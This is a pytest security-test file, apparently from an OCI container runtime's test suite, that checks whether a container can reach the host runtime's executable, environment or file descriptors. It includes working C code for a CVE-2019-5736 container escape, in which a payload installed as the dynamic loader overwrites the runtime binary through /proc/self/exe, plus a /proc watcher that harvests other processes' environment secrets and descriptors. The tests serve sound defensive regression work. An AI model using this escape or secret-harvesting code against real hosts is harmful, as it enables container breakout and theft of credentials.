"""Nothing of the host's runtime is reachable from inside: its executable, environment and fds
(CVE-2019-5736 and the pre-exec window).

1. ``#!/proc/self/exe``: the container's program is a script whose interpreter is
   ``/proc/self/exe``.  While the runtime's process becomes the program, the kernel resolves that
   to the runtime's own executable and runs it inside the container, with the image's dynamic
   loader -- here a payload -- as its loader.  The payload keeps a descriptor of
   ``/proc/self/exe`` and a writer waits for the runtime to exit, then overwrites the host
   executable through it.  The runtime under test runs from a *copy* of its executable (the
   host's Python interpreter for pyoci, the runc binary for runc), so a lost fight corrupts only
   the copy, which the test checks.
2. The pre-exec window: a process in the container watches /proc while ``exec`` runs, and
   tries to read the environment (with a secret of the runtime's caller), the executable and the
   fds of every process that appears.
3. A container that joins another's pid namespace sees its created-not-started init: it must
   not reach that init's executable, environment or fds (the host's exec FIFO among them).
"""

from __future__ import annotations

import hashlib
import os
import shutil
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from oci_harness import Runtime

# The writer, exec'd by the payload with the descriptor of /proc/self/exe as argv[1]: it waits
# until nobody executes that file any more (ETXTBSY), then writes into it.
WRITER = r"""
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    for (int i = 0; i < 200; i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) {
            ssize_t n = write(fd, "PWNED", 5);
            printf("writer: open for writing worked, write gave %zd (%s)\n", n, n < 0 ? strerror(errno) : "ok");
            return 0;
        }
        if (errno != ETXTBSY) {
            printf("writer: open for writing: %s\n", strerror(errno));
            return 1;
        }
        usleep(50000);
    }
    printf("writer: still busy\n");
    return 1;
}
"""

# The payload: installed as the image's dynamic loader, so the kernel runs it when it executes
# the host's (dynamically linked) runtime executable inside the container.  No libc (it runs as
# a loader, before anything is set up): raw system calls.
PAYLOAD = r"""
#include <sys/syscall.h>
#if defined(__x86_64__)
static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
#elif defined(__aarch64__)
static long sys3(long n, long a, long b, long c) {
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile ("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
#endif
__attribute__((force_align_arg_pointer)) void _start(void) {
    long fd = sys3(SYS_openat, -100, (long)"/proc/self/exe", 0);
    char number[4] = {'0' + (char)(fd % 10), 0, 0, 0};  /* /proc/self/fd/N: no leading zero */
    if (fd >= 10) { number[0] = '0' + (char)(fd / 10 % 10); number[1] = '0' + (char)(fd % 10); }
    char *argv[] = {"writer", number, 0};
    char *envp[] = {0};
    sys3(SYS_write, 2, (long)"payload: running as the loader of the runtime\n", 47);
    sys3(SYS_execve, (long)"/writer", (long)argv, (long)envp);
    sys3(SYS_exit_group, 1, 0, 0);
}
"""


def _interpreter(executable: Path) -> str | None:
    """PT_INTERP of an ELF file (the dynamic loader the kernel will load for it)."""
    data = executable.read_bytes()
    if data[:4] != b"\x7fELF" or data[4] != 2:
        return None
    phoff, = struct.unpack_from("<Q", data, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
    for i in range(phnum):
        kind, _, offset, _, _, size = struct.unpack_from("<IIQQQQ", data, phoff + i * phentsize)
        if kind == 3:
            return data[offset:offset + size].rstrip(b"\0").decode()
    return None


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def runtime_copy(runtime, tmp_path):
    """The runtime under test, run from a private copy of its executable: (runtime, copy, env)."""
    copy_dir = tmp_path / "runtime-copy"
    copy_dir.mkdir()
    command = list(runtime.command)
    if command[0] == sys.executable:  # pyoci: python -m pyoci_nb
        original = Path(os.path.realpath(sys.executable))
        env = dict(os.environ, PYTHONHOME=sys.base_prefix,
                   PYTHONPATH=str(Path(__file__).resolve().parents[2]))
    else:
        original = Path(os.path.realpath(command[0]))
        env = dict(os.environ)
    copy = copy_dir / original.name
    shutil.copy2(original, copy)
    probe = subprocess.run([str(copy)] + command[1:] + ["--version"], env=env, capture_output=True,
                           text=True, timeout=60)
    assert probe.returncode == 0, f"the copy of the runtime does not run: {probe.stderr}"
    return Runtime([str(copy)] + command[1:], runtime.root), copy, env


def test_proc_self_exe_script_cannot_overwrite_the_runtime(box, runtime_copy, static_program):
    copied_runtime, copy, env = runtime_copy
    loader = _interpreter(copy)
    if loader is None:
        pytest.skip(f"{copy.name} is statically linked: no loader for a payload to replace")
    rootfs = box.rootfs
    target = rootfs / loader.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    if target.exists() or target.is_symlink():
        target.unlink()
    shutil.copy(static_program(PAYLOAD, "payload", extra=("-static-pie", "-nostdlib", "-fPIE", "-fno-stack-protector")), target)
    shutil.copy(static_program(WRITER, "writer"), rootfs / "writer")
    (rootfs / "bin" / "x").write_text("#!/proc/self/exe\n")
    (rootfs / "bin" / "x").chmod(0o755)
    before = _digest(copy)

    box.args("sh", "-c", "exec sleep 1000")
    box.config["process"]["terminal"] = False
    box.save()
    box.runtime = copied_runtime
    assert copied_runtime("create", "--bundle", box.bundle, box.id, env=env).returncode == 0
    assert copied_runtime("start", box.id, env=env).returncode == 0
    # the attack as an engine would trigger it: exec -d, then the runtime exits
    copied_runtime("exec", "-d", box.id, "/bin/x", env=env)
    # the writer retries for 10 s while the copy is busy; give it the time it needs
    deadline = time.monotonic() + 12
    while time.monotonic() < deadline:
        procs = copied_runtime("ps", box.id, env=env).stdout
        if "writer" not in procs and "x" not in procs.split():
            break
        time.sleep(0.2)
    assert _digest(copy) == before, "the container overwrote the runtime's executable"


WATCHER = r"""
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
/* Watch /proc for `seconds`; for every other process try its environ, exe and fds. */
int main(int argc, char **argv) {
    int seconds = atoi(argv[1]);
    const char *secret = argv[2];
    time_t end = time(NULL) + seconds;
    int self = getpid(), seen = 0;
    while (time(NULL) < end) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            char path[64], buf[65536];
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                ssize_t n = read(fd, buf, sizeof buf - 1);
                close(fd);
                if (n > 0) {
                    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
                    buf[n] = 0;
                    if (strstr(buf, secret)) printf("environ of %d has the secret\n", pid);
                    seen++;
                }
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, buf, sizeof buf - 1);
            if (n > 0) {
                buf[n] = 0;
                if (strstr(buf, "python") || strstr(buf, "pyoci") || strstr(buf, "runc"))
                    printf("exe of %d is %s\n", pid, buf);
            }
            for (int f = 3; f < 16; f++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, f);
                n = readlink(path, buf, sizeof buf - 1);
                if (n > 0) {
                    buf[n] = 0;
                    if (strstr(buf, "socket:") || strstr(buf, "fifo") || strstr(buf, "/run/") ||
                        strstr(buf, "pytest") || strstr(buf, "/tmp/"))
                        printf("fd %d of %d is %s\n", f, pid, buf);
                }
            }
        }
        closedir(proc);
    }
    printf("watcher done, read %d environs\n", seen);
    return 0;
}
"""


def test_exec_pre_exec_process_is_closed_to_the_container(box, runtime, static_program):
    """While ``exec`` turns a fork of the runtime into the program, the container's own
    processes must not read its environment (the caller's secrets), executable or fds."""
    shutil.copy(static_program(WATCHER, "watcher"), box.rootfs / "watcher")
    secret = "PYOCI_TEST_SECRET=" + os.urandom(8).hex()
    box.start_sleeper()
    watch = subprocess.Popen(runtime.argv("exec", box.id, "/watcher", "20", secret),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        time.sleep(0.5)
        env = dict(os.environ, PYOCI_TEST_SECRET=secret.split("=", 1)[1])
        for _ in range(40):
            runtime("exec", box.id, "true", env=env)
    finally:
        runtime("exec", box.id, "pkill", "-f", "watcher")
        out, err = watch.communicate(timeout=60)
    assert "watcher done" in out or watch.returncode is not None, err
    leaks = [line for line in out.splitlines() if not line.startswith("watcher done")]
    assert not leaks, "\n".join(leaks)


@pytest.mark.runc_divergent  # runc 1.1.5's created init shows its exe and fds to the joiner
def test_joined_pid_namespace_cannot_reach_a_created_init(box, runtime, busybox_bundle, tmp_path,
                                                          container_id):
    """Container B joins container A's pid namespace while A is created, not started."""
    box.args("sh", "-c", "echo A started; sleep 1000")
    box.create()
    a_pid = box.state()["pid"]
    other = tmp_path / "other"
    shutil.copytree(busybox_bundle, other, symlinks=True)
    from oci_harness import Box

    b = Box(runtime, other, container_id + "-b")
    b.set_namespace("pid", f"/proc/{a_pid}/ns/pid")
    script = ("readlink /proc/1/exe && echo EXE-READ; "
              "cat /proc/1/environ >/dev/null && echo ENVIRON-READ; "
              "for f in $(ls /proc/1/fd); do "
              "  readlink /proc/1/fd/$f && echo FD-FOLLOWED $f; "
              "  cat /proc/1/fd/$f >/dev/null 2>&1 </dev/null && echo FD-OPENED $f; "
              "done; "
              "true")
    try:
        done = b.run("sh", "-c", script, timeout=30)
    finally:
        runtime("delete", "--force", b.id)
    out = done.stdout
    assert done.returncode == 0, done.stderr
    for marker in ("EXE-READ", "ENVIRON-READ", "FD-FOLLOWED", "FD-OPENED"):
        assert marker not in out, out
    assert box.state()["status"] == "created", "container A was started through its exec FIFO"
